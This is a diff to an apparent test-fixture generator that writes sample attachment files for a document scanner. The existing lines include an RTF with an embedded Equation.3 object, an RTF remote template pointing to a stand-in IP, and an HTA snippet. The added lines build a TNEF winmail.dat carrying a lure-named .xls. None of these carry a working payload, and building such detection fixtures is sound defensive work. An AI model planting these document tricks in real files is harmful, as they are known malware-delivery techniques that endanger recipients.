@@ -164,6 +164,11 @@ def documents():
     write("plain.pdf", b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj")
     write("object.rtf", b"{\\rtf1\\ansi text {\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata 0105}}}")
     write("template.rtf", b"{\\rtf1{\\*\\template http://192.0.2.1/t}\\ansi text}")
+    def attribute(kind, data):
+        return struct.pack("<BII", 2, kind, len(data)) + data + struct.pack("<H", sum(data) & 0xffff)
+    write("winmail.dat", struct.pack("<IH", 0x223e9f78, 1) + attribute(0x00089006, b"\0\0\1\0") +
+          attribute(0x00069002, b"\1\0" * 7) + attribute(0x0006800f, b"d" * 700) + attribute(0x00018010, "見積.xls".encode("cp932") + b"\0") +
+          attribute(0x00069002, b"\1\0" * 7) + attribute(0x00018010, b"b.txt\0") + attribute(0x0006800f, b"d" * 20))
     mark = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
     store = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
     inner = b"<html><hta:application id=a></html>"
